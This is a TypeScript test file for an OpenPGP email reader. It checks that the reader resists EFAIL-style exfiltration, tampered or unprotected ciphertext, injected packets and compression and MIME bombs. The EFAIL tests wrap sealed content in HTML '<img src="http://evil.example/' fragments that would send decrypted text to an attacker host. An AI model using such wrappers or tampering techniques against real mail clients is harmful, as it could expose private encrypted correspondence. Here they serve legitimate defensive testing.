import {
  CompressedDataPacket,
  createMessage,
  encrypt,
  encryptSessionKey,
  enums,
  generateSessionKey,
  type Message,
  PacketList,
  SymEncryptedIntegrityProtectedDataPacket,
  SymmetricallyEncryptedDataPacket,
} from 'openpgp'
import { beforeAll, describe, expect, it } from 'vitest'
import { armorMessage } from '../../src/crypto/armor.ts'
import { literalOf } from '../../src/crypto/literal.ts'
import { UnreadableError } from '../../src/crypto/open.ts'
import { openpgpConfig } from '../../src/crypto/profile.ts'
import { concat } from '../../src/mail/bytes.ts'
import { MailReadError } from '../../src/mail/read.ts'
import { bytes, today } from '../crypto/people.ts'
import { msOf } from '../setup/thread-time.ts'
import { type Desks, entityOf, inline, openDesks, pgpMime, protectedText } from './partner-mail.ts'

let desks: Desks
beforeAll(async () => {
  desks = await openDesks()
})

const SECRET = 'Placeholder Pat is known to us.'
const WORDS = `Content-Type: text/plain\r\n\r\n${SECRET}\r\n`

type Packets = Message<Uint8Array>['packets']

// The declared types of the library's packets leave it out.
const encryptInto = async (data: object, key: Uint8Array): Promise<void> =>
  Reflect.get(data, 'encrypt').call(data, enums.symmetric.aes256, key, openpgpConfig)

/** A message of packets of our choosing, encrypted to our desk with or without protection against changes. */
async function sealedPackets(packets: Packets, integrity = true): Promise<Uint8Array> {
  const { certificate } = desks.ours
  const sessionKey = await generateSessionKey({ encryptionKeys: certificate, date: today })
  const keys = await encryptSessionKey({
    ...sessionKey,
    encryptionKeys: certificate,
    date: today,
    format: 'binary',
  })
  const data = integrity
    ? Object.assign(new SymEncryptedIntegrityProtectedDataPacket(), { version: 1, packets })
    : Object.assign(new SymmetricallyEncryptedDataPacket(), { packets })
  await encryptInto(data, sessionKey.data)
  const list: Packets = new PacketList()
  list.push(data)
  return concat(keys, new Uint8Array(list.write()))
}

const literals = (...texts: string[]): Packets => {
  const list: Packets = new PacketList()
  for (const one of texts) list.push(literalOf(bytes(one), today))
  return list
}

const refused = async (mail: Uint8Array): Promise<unknown> =>
  desks.read(mail).then(
    (opened) => opened.text,
    (error: unknown) => error,
  )

describe('a sealed part wrapped into what would send it away (EFAIL, direct exfiltration)', () => {
  const wrap = (before: string, armored: string, after: string) =>
    concat(
      'From: a@b.test\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="w"\r\n\r\n',
      `--w\r\nContent-Type: text/html\r\n\r\n${before}\r\n--w\r\n`,
      pgpMime(armored).subarray(0),
      `\r\n--w\r\nContent-Type: text/html\r\n\r\n${after}\r\n--w--\r\n`,
    )

  it('is clear text as a whole, and nothing in it is opened', async () => {
    const armored = await desks.seal(WORDS)
    const opened = await desks.read(wrap('<img src="http://evil.example/', armored, '">'))
    expect(opened).toMatchObject({ signature: 'unsigned', keyIds: [] })
    expect(JSON.stringify(opened.parts)).not.toContain(SECRET)
    expect(opened.parts.map(({ sort }) => sort)).toContain('sealed')
    expect(opened.parts.every(({ encrypted }) => !encrypted)).toBe(true)
  })

  it('shows the words of such HTML within a seal, and fetches and joins nothing', async () => {
    const entity = entityOf(
      'multipart/mixed',
      'Content-Type: text/html\r\n\r\n<p>look</p><img src="http://evil.example/',
      `Content-Type: text/plain\r\n\r\n${SECRET}`,
      'Content-Type: text/html\r\n\r\n">',
    )
    const opened = await desks.read(pgpMime(await desks.seal(entity)))
    expect(opened.text).not.toContain('evil.example')
    expect(opened.parts.map(({ text }) => text)).toContain(`${SECRET}\n`)
  })

  it('leaves a second seal within the first unopened, in a part and in a text', async () => {
    const armored = await desks.seal(WORDS)
    const within = [
      pgpMime(armored),
      bytes(`Content-Type: text/plain\r\n\r\nSee:\r\n${armored}\r\nRegards\r\n`),
    ]
    for (const part of within) {
      const opened = await desks.read(
        pgpMime(await desks.seal(entityOf('multipart/mixed', WORDS.replace(SECRET, 'See below.'), part))),
      )
      expect(JSON.stringify(opened)).not.toContain(SECRET)
      const sealed = opened.parts.find(({ sort }) => sort === 'sealed')
      expect(sealed?.remarks.join()).toMatch(/encrypted once more, which was not opened/)
    }
  })
})

describe('what was changed on the way is not shown, not a word of it', () => {
  it('where the data has no protection against changes (tag 9)', async () => {
    const sealed = await sealedPackets(literals(WORDS), false)
    const error = await refused(pgpMime(armorMessage(sealed)))
    expect(error).toBeInstanceOf(UnreadableError)
    expect(error).toMatchObject({ reason: 'corrupt', message: expect.stringMatching(/old way.*not opened/) })
  })

  it('while the same data with protection opens', async () => {
    const sealed = await sealedPackets(literals(WORDS))
    expect(await refused(pgpMime(armorMessage(sealed)))).toBe(`${SECRET}\n`)
  })

  it('where one bit of it was turned, anywhere', async () => {
    const sealed = await sealedPackets(literals(WORDS.repeat(20)))
    for (let at = sealed.length - 1; at > sealed.length - 600; at -= 37) {
      const changed = sealed.slice()
      changed[at] = (changed[at] ?? 0) ^ 1
      expect(await refused(pgpMime(armorMessage(changed)))).toBeInstanceOf(UnreadableError)
    }
  })

  it('where it was cut short', async () => {
    const sealed = await sealedPackets(literals(WORDS.repeat(20)))
    for (const length of [sealed.length - 1, sealed.length - 22, sealed.length - 400]) {
      expect(await refused(pgpMime(armorMessage(sealed.slice(0, length))))).toBeInstanceOf(UnreadableError)
    }
  })

  it('where the protected packet was relabelled as one without protection', async () => {
    const sealed = await sealedPackets(literals(WORDS))
    const at = sealed.findIndex((byte, i) => byte === 0xd2 && i > 50)
    const changed = sealed.slice()
    changed[at] = 0xc9
    expect(await refused(pgpMime(armorMessage(changed)))).toBeInstanceOf(UnreadableError)
  })

  it('where data was put before or after the seal', async () => {
    const sealed = await sealedPackets(literals(WORDS))
    const clear = new Uint8Array(literals('Content-Type: text/plain\r\n\r\nforged').write())
    for (const mixed of [concat(clear, sealed), concat(sealed, clear), concat(sealed, sealed)]) {
      const got = await refused(pgpMime(armorMessage(mixed)))
      expect(got).toBeInstanceOf(UnreadableError)
    }
  })
})

describe('packets within the seal that are more than one message', () => {
  it('are refused: two texts', async () => {
    const sealed = await sealedPackets(literals(WORDS, WORDS.replace(SECRET, 'forged')))
    expect(await refused(pgpMime(armorMessage(sealed)))).toBeInstanceOf(UnreadableError)
  })

  it('are refused: a text after the signature', async () => {
    const message = await signedMessage()
    const list = message.packets
    list.push(literalOf(bytes(WORDS.replace(SECRET, 'forged')), today))
    const sealed = await sealedPackets(list)
    expect(await refused(pgpMime(armorMessage(sealed)))).toBeInstanceOf(UnreadableError)
  })

  it('are refused, or opened as the one text that they are: compression in compression', async () => {
    let list = literals(WORDS)
    for (let depth = 0; depth < 40; depth += 1) {
      const outer: Packets = new PacketList()
      outer.push(
        Object.assign(new CompressedDataPacket(), { packets: list, algorithm: enums.compression.zlib }),
      )
      list = outer
    }
    const took = await msOf(async () => {
      const got = await refused(pgpMime(armorMessage(await sealedPackets(list))))
      if (typeof got !== 'string') expect(got).toBeInstanceOf(UnreadableError)
    })
    expect(took).toBeLessThan(1000)
  })

  it('show no name that a packet gives its file', async () => {
    const message = await createMessage({ binary: bytes(WORDS), filename: 'Signature verified.txt' })
    const armored = await encrypt({ message, encryptionKeys: desks.ours.certificate, date: today })
    expect(JSON.stringify(await desks.read(pgpMime(String(armored))))).not.toContain('Signature verified')
  })

  async function signedMessage(): Promise<Message<Uint8Array>> {
    const message = await createMessage({ binary: protectedText(SECRET) })
    return message.sign([desks.police.key], undefined, undefined, today)
  }
})

describe('what is no message is refused by name', () => {
  it.each<[string, () => Promise<Uint8Array>]>([
    [
      'a multipart of ten thousand parts',
      async () =>
        pgpMime(
          await desks.seal(`Content-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\n\r\n'.repeat(9000)}`),
        ),
    ],
    [
      'parts nested without end',
      async () =>
        pgpMime(
          await desks.seal(
            Array.from(
              { length: 40 },
              (_, at) => `Content-Type: multipart/mixed; boundary=b${at}\r\n\r\n--b${at}\r\n`,
            ).join(''),
          ),
        ),
    ],
    ['a header without end', async () => pgpMime(await desks.seal(`X: ${'y'.repeat(400_000)}`))],
    [
      'too many files',
      async () =>
        pgpMime(
          await desks.seal(
            `Content-Type: multipart/mixed; boundary=b\r\n\r\n${'--b\r\nContent-Type: a/b\r\n\r\nx\r\n'.repeat(150)}--b--`,
          ),
        ),
    ],
  ])('%s', async (_, make) => {
    await expect(desks.read(await make())).rejects.toThrow(MailReadError)
  })

  it('but an empty text is one', async () => {
    expect((await desks.read(inline(await desks.seal('')))).text).toBe('\n')
  })
})
